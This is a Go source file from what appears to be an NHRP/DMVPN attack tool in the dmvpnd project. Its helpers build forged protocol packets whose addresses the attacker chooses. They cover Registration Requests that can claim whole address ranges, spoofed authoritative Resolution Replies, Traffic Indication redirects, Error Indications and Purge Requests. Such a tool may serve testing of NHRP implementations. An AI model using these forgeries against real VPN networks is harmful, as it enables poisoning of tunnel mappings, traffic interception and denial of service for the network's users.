package main

import (
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net/netip"
	"strconv"
	"strings"

	"github.com/dmvpnd/dmvpnd/nhrp"
)

// cieSpec is a CIE as given on the command line: "PROTO[,NBMA[,HOLD]]".
// An empty or "-" NBMA leaves the client NBMA out (the receiver then
// takes the packet's source NBMA).
type cieSpec struct {
	proto   netip.Addr
	nbma    netip.Addr
	holding uint16
	hasHold bool
}

func parseCIE(s string) (cieSpec, error) {
	parts := strings.Split(s, ",")
	if len(parts) > 3 {
		return cieSpec{}, fmt.Errorf("CIE %q: want PROTO[,NBMA[,HOLD]]", s)
	}
	var c cieSpec
	var err error
	if c.proto, err = netip.ParseAddr(parts[0]); err != nil {
		return cieSpec{}, fmt.Errorf("CIE %q: %w", s, err)
	}
	if len(parts) > 1 && parts[1] != "" && parts[1] != "-" {
		if c.nbma, err = netip.ParseAddr(parts[1]); err != nil {
			return cieSpec{}, fmt.Errorf("CIE %q: %w", s, err)
		}
	}
	if len(parts) > 2 {
		h, err := strconv.ParseUint(parts[2], 10, 16)
		if err != nil {
			return cieSpec{}, fmt.Errorf("CIE %q: holding time: %w", s, err)
		}
		c.holding, c.hasHold = uint16(h), true
	}
	return c, nil
}

// cieList is a repeatable -cie flag.
type cieList []cieSpec

func (l *cieList) String() string { return fmt.Sprint(len(*l), " CIEs") }

func (l *cieList) Set(s string) error {
	c, err := parseCIE(s)
	if err != nil {
		return err
	}
	*l = append(*l, c)
	return nil
}

// addrList is a repeatable address flag.
type addrList []netip.Addr

func (l *addrList) String() string { return fmt.Sprint([]netip.Addr(*l)) }

func (l *addrList) Set(s string) error {
	a, err := netip.ParseAddr(s)
	if err != nil {
		return err
	}
	*l = append(*l, a)
	return nil
}

// cie renders a spec as a CIE with prefix length plen; holding is used
// when the spec has none.
func (c cieSpec) cie(plen uint8, holding uint16) nhrp.CIE {
	if c.hasHold {
		holding = c.holding
	}
	return nhrp.CIE{PrefixLength: plen, HoldingTime: holding, ClientNBMA: c.nbma, ClientProto: c.proto}
}

// header is what every forged packet shares: the mandatory part's
// addresses as the attacker chooses them.
type header struct {
	srcNBMA, srcProto, dstProto netip.Addr
}

// randomID is an unpredictable request id (as honest nodes use).
func randomID() uint32 {
	var b [4]byte
	_, _ = rand.Read(b[:])
	return binary.BigEndian.Uint32(b[:]) | 1
}

// registrations returns Registration Requests carrying cies, at most
// perPacket CIEs each (0: all in one packet).
func registrations(h header, cies []nhrp.CIE, unique bool, perPacket int) []*nhrp.Packet {
	if perPacket <= 0 {
		perPacket = max(len(cies), 1)
	}
	var out []*nhrp.Packet
	for len(cies) > 0 {
		n := min(perPacket, len(cies))
		p := nhrp.NewRegistrationRequest(h.srcNBMA, h.srcProto, h.dstProto, randomID(), 0, 0, unique)
		p.CIEs = append([]nhrp.CIE(nil), cies[:n]...)
		out = append(out, p)
		cies = cies[n:]
	}
	return out
}

// resolutionReply is a positive Resolution Reply to a request from
// h.srcProto (the requester) for target h.dstProto, with request id id,
// naming cies.
func resolutionReply(h header, id uint32, cies []nhrp.CIE) *nhrp.Packet {
	p := nhrp.NewResolutionRequest(h.srcNBMA, h.srcProto, h.dstProto, id, 0, 0)
	p.Type = nhrp.TypeResolutionReply
	p.CIEs = cies
	return p
}

// answer turns a received Resolution Request into a reply naming cie,
// keeping its addresses, id, flags and extensions (as a responder does),
// the Responder Address extension naming cie.
func answer(req *nhrp.Packet, cie nhrp.CIE) *nhrp.Packet {
	p := req.Clone()
	p.Type = nhrp.TypeResolutionReply
	p.HopCount = nhrp.DefaultHopCount
	p.Flags |= nhrp.FlagResolutionAuthoritative
	p.CIEs = []nhrp.CIE{cie}
	if ext := p.Extension(nhrp.ExtensionResponderAddress); ext != nil && !ext.Opaque {
		ext.CIEs = []nhrp.CIE{cie}
	}
	return p
}

// trafficIndication is a redirect to h.dstProto for a data packet from
// dataSrc to dataDst (an IPv4 header is all a receiver reads).
func trafficIndication(h header, dataSrc, dataDst netip.Addr) *nhrp.Packet {
	return nhrp.NewTrafficIndication(h.srcNBMA, h.srcProto, h.dstProto, ipv4Header(dataSrc, dataDst))
}

// errorIndication reports code about an offending Registration Request
// from h.dstProto (the Error Indication's destination) with a random id.
func errorIndication(h header, code nhrp.ErrorCode) (*nhrp.Packet, error) {
	off := nhrp.NewRegistrationRequest(h.srcNBMA, h.dstProto, h.srcProto, randomID(), 300, 0, false)
	b, err := off.Marshal()
	if err != nil {
		return nil, err
	}
	return nhrp.NewErrorIndication(h.srcNBMA, h.srcProto, h.dstProto, code, 0, b), nil
}

// purgeRequest purges addrs.
func purgeRequest(h header, noReply bool, addrs []netip.Addr) *nhrp.Packet {
	return nhrp.NewPurgeRequest(h.srcNBMA, h.srcProto, h.dstProto, randomID(), noReply, addrs...)
}

// ipv4Header is a 20-byte IPv4 header (ICMP) from src to dst.
func ipv4Header(src, dst netip.Addr) []byte {
	b := make([]byte, 20)
	b[0] = 0x45
	binary.BigEndian.PutUint16(b[2:], 84)
	b[8] = 64
	b[9] = 1 // ICMP
	s, d := src.As4(), dst.As4()
	copy(b[12:], s[:])
	copy(b[16:], d[:])
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(b[10:], ^uint16(sum))
	return b
}

// rangeCIEs returns one CIE per address from first to last inclusive
// (IPv4), claiming nbma, with the given prefix length and holding time.
func rangeCIEs(first, last, nbma netip.Addr, plen uint8, holding uint16) ([]nhrp.CIE, error) {
	if !first.Is4() || !last.Is4() || last.Less(first) {
		return nil, fmt.Errorf("range %v-%v: want two IPv4 addresses in order", first, last)
	}
	var out []nhrp.CIE
	for a := first; ; a = a.Next() {
		out = append(out, nhrp.CIE{PrefixLength: plen, HoldingTime: holding, ClientNBMA: nbma, ClientProto: a})
		if a == last || len(out) > 1<<16 {
			break
		}
	}
	return out, nil
}
